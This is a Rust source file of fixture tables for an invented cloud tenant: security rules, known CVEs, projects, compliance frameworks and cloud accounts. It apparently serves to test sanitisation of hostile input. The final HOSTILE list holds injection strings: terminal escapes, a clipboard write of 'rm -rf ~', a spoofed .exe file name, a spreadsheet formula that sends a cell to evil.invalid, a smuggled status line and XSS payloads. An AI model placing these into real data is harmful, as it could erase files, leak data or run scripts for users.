//! What the invented tenant is watched for: rules, weaknesses and projects, as tables.

/// Which member of the union a source rule is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RuleKind {
    /// A graph control.
    Control,
    /// A threat rule over cloud events.
    Event,
    /// A configuration rule.
    Configuration,
}

impl RuleKind {
    /// Name of the GraphQL type.
    pub fn type_name(self) -> &'static str {
        match self {
            Self::Control => "Control",
            Self::Event => "CloudEventRule",
            Self::Configuration => "CloudConfigurationRule",
        }
    }

    /// Type of the issues that such a rule raises.
    pub fn issue_type(self) -> &'static str {
        match self {
            Self::Control => "TOXIC_COMBINATION",
            Self::Event => "THREAT_DETECTION",
            Self::Configuration => "CLOUD_CONFIGURATION",
        }
    }
}

/// A rule that raises issues.
#[derive(Debug)]
pub struct Rule {
    /// Which kind of rule.
    pub kind: RuleKind,
    /// Its name, the issue's headline.
    pub name: &'static str,
    /// Usual severity.
    pub severity: &'static str,
    /// What its issues are about.
    pub entity: &'static str,
    /// What it looks for.
    pub about: &'static str,
    /// What to do.
    pub advice: &'static str,
}

macro_rules! rules {
    ($($kind:ident $severity:literal $entity:literal $name:expr, $about:literal, $advice:literal;)*) => {
        [$(Rule { kind: RuleKind::$kind, severity: $severity, entity: $entity, name: $name, about: $about, advice: $advice }),*]
    };
}

/// The rule of the campaign's issue.
pub const MALWARE: &str = "Malware was written to disk";

/// The rules that raise issues.
pub const RULES: [Rule; 24] = rules! {
    Control "HIGH" "SECRET_INSTANCE" "Secrets not stored in a secret container", "", "";
    Control "CRITICAL" "VIRTUAL_MACHINE" "Publicly exposed VM with a critical vulnerability that has a known exploit",
        "The machine answers on the internet and runs software for which exploit code is public.", "Patch it, or close the port until it is patched.";
    Control "CRITICAL" "VIRTUAL_MACHINE" "VM with high privileges and a leaked cloud key on disk",
        "A cloud key that can administer the account lies in clear on the disk.", "Revoke the key and give the workload a role.";
    Control "HIGH" "BUCKET" "Bucket with personal data is readable by anyone", "Objects that hold personal data can be listed without signing in.",
        "Block public access on the bucket.";
    Control "HIGH" "USER_ACCOUNT" "Administrator without multi-factor authentication", "An account that administers the tenant signs in with a password alone.",
        "Require a second factor.";
    Control "MEDIUM" "SERVERLESS" "Function with an outdated runtime reaches production data", "The runtime gets no more updates.", "Move to a supported runtime.";
    Control "MEDIUM" "CONTAINER" "Privileged container mounts the host's file system", "A break-out of this container is a break-in to the node.",
        "Drop the privilege and mount read-only what is needed.";
    Control "LOW" "VIRTUAL_MACHINE" "VM without endpoint protection", "No agent has reported from this machine for 30 days.", "Install the agent.";
    Control "INFORMATIONAL" "BUCKET" "Bucket without an owner tag", "", "Tag it.";
    Event "CRITICAL" "VIRTUAL_MACHINE" "Reverse shell from a production workload", "A shell whose input and output are a network connection was started.",
        "Isolate the workload and keep its disk.";
    Event "CRITICAL" "USER_ACCOUNT" "Console sign-in from an address on a threat list", "Somebody signed in from an address that is known for attacks.",
        "Revoke the sessions and ask the user.";
    Event "HIGH" "VIRTUAL_MACHINE" MALWARE, "A file that matches a known sample was written.", "Isolate the machine and remove the file.";
    Event "HIGH" "ACCESS_KEY" "Cloud key used from an unusual network", "The key was never used from that network before.", "Rotate the key.";
    Event "HIGH" "VIRTUAL_MACHINE" "Crypto-mining pool contacted", "The workload resolved and contacted a mining pool.", "Find out how it got there.";
    Event "MEDIUM" "USER_ACCOUNT" "Impossible travel between two sign-ins", "Two sign-ins lie further apart than the time between them allows.",
        "Ask the user.";
    Event "MEDIUM" "BUCKET" "Mass download from a bucket", "One identity read more objects in ten minutes than in the month before.", "Check what was read.";
    Event "MEDIUM" "CONTAINER" "Package manager run inside a container", "Software was installed into a running container.", "Rebuild the image instead.";
    Event "LOW" "USER_ACCOUNT" "Dormant account became active", "No sign-in for 90 days, then several.", "Ask the user.";
    Configuration "HIGH" "VIRTUAL_MACHINE" "Security group allows SSH from anywhere", "Port 22 is open to 0.0.0.0/0.", "Limit the source.";
    Configuration "HIGH" "DATABASE" "Database is publicly accessible", "The instance has a public address and its firewall is open.", "Turn public access off.";
    Configuration "MEDIUM" "BUCKET" "Bucket does not enforce TLS", "Plain HTTP is answered.", "Add a policy that denies plain requests.";
    Configuration "MEDIUM" "USER_ACCOUNT" "Access key older than 90 days", "Long-lived keys leak.", "Rotate it.";
    Configuration "LOW" "VIRTUAL_MACHINE" "Disk is not encrypted with a customer key", "", "Re-create the disk with a key of your own.";
    Configuration "INFORMATIONAL" "DATABASE" "Database snapshots are kept for less than 7 days", "", "Keep them longer.";
};

/// A weakness of installed software.
#[derive(Debug)]
pub struct Weakness {
    /// Its number.
    pub cve: &'static str,
    /// Severity by the vendor of the software.
    pub severity: &'static str,
    /// CVSS score.
    pub score: f64,
    /// The software.
    pub package: &'static str,
    /// The version that has it.
    pub version: &'static str,
    /// The version that does not; empty while there is none.
    pub fixed: &'static str,
    /// Whether exploit code is public.
    pub exploit: bool,
}

macro_rules! weaknesses {
    ($($cve:literal $severity:literal $score:literal $package:literal $version:literal $fixed:literal $exploit:literal;)*) => {
        [$(Weakness { cve: $cve, severity: $severity, score: $score, package: $package, version: $version, fixed: $fixed, exploit: $exploit }),*]
    };
}

/// The weaknesses that are found.
pub const WEAKNESSES: [Weakness; 14] = weaknesses! {
    "CVE-2021-44228" "CRITICAL" 10.0 "log4j-core" "2.14.1" "2.17.1" true;
    "CVE-2024-3094" "CRITICAL" 10.0 "xz-utils" "5.6.0" "5.6.1+really5.4.5" true;
    "CVE-2023-44487" "HIGH" 7.5 "nghttp2" "1.52.0" "1.57.0" true;
    "CVE-2024-6387" "HIGH" 8.1 "openssh-server" "9.6p1" "9.8p1" true;
    "CVE-2023-4863" "HIGH" 8.8 "libwebp7" "1.2.4" "1.3.2" true;
    "CVE-2022-3602" "HIGH" 7.5 "openssl" "3.0.2" "3.0.7" false;
    "CVE-2023-38545" "HIGH" 8.8 "curl" "7.88.1" "8.4.0" false;
    "CVE-2021-3156" "HIGH" 7.8 "sudo" "1.8.31" "1.9.5p2" true;
    "CVE-2023-2650" "MEDIUM" 6.5 "openssl" "1.1.1f" "1.1.1u" false;
    "CVE-2022-37434" "MEDIUM" 6.8 "zlib1g" "1.2.11" "1.2.13" false;
    "CVE-2023-29491" "MEDIUM" 5.9 "ncurses-base" "6.3" "6.4-20230408" false;
    "CVE-2020-8908" "LOW" 3.3 "guava" "29.0-jre" "32.0.0-jre" false;
    "CVE-2016-2781" "LOW" 2.5 "coreutils" "8.32" "" false;
    "CVE-2019-20838" "NONE" 0.0 "libpcre3" "8.39" "" false;
};

/// A project: name, business unit, business impact, whether it is a folder, whether it is archived.
pub const PROJECTS: [(&str, &str, &str, bool, bool); 12] = [
    ("Payments", "Finance", "HBI", false, false),
    ("Payments Sandbox", "Finance", "LBI", false, false),
    ("Web Shop", "Sales", "HBI", false, false),
    ("Data Platform", "Research", "MBI", false, false),
    ("Build Farm", "Engineering", "MBI", false, false),
    ("Mobile", "Engineering", "MBI", false, false),
    ("Corporate IT", "Operations", "MBI", true, false),
    ("Legal Hold", "Legal", "HBI", false, false),
    ("Support Desk", "Support", "LBI", false, false),
    ("Labs", "Research", "LBI", true, false),
    ("Old Web Shop", "Sales", "LBI", false, true),
    ("Acquired Ltd", "", "MBI", false, true),
];

/// Frameworks that rules belong to: framework, category, sub-category.
pub const FRAMEWORKS: [(&str, &str, &str); 5] = [
    ("CIS AWS 3.0.0", "2 Storage", "2.1.1 Ensure that plain HTTP requests are denied"),
    ("CIS AWS 3.0.0", "5 Networking", "5.2 Ensure that no security group allows ingress from 0.0.0.0/0 to administration ports"),
    ("NIST SP 800-53 Rev 5", "IA Identification and Authentication", "IA-2 (1) Multi-factor authentication to privileged accounts"),
    ("NIST CSF v1.1", "PR.DS Data Security", "PR.DS-1 Data-at-rest is protected"),
    ("Wiz for Risk Assessment", "Vulnerability Assessment", "Critical vulnerabilities on exposed resources"),
];

/// Clouds: platform as Wiz spells it, a subscription's name, its number, a region.
pub const CLOUDS: [(&str, &str, &str, &str); 5] = [
    ("AWS", "northwind-prod", "481237905512", "eu-central-1"),
    ("AWS", "northwind-dev", "203948120933", "us-east-1"),
    ("Azure", "Northwind Production", "6f3c7a0e-2f57-4b60-9a1b-9d1c7e6f2a10", "westeurope"),
    ("GCP", "northwind-data", "northwind-data-4411", "europe-west3"),
    ("EKS", "northwind-prod", "481237905512", "eu-central-1"),
];

/// What an attacker would write into a name or a description.
pub const HOSTILE: [&str; 6] = [
    "\u{1b}[2J\u{1b}[31mPWNED\u{1b}[0m",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}clip",
    "\u{202e}gpj.exe\u{202c} invoice",
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"open\")",
    "zero\u{200b}width\u{2028}next line\r\nSTATUS: closed",
    "<img src=x onerror=alert(1)> [click](javascript:alert(1)) \u{9b}31m",
];
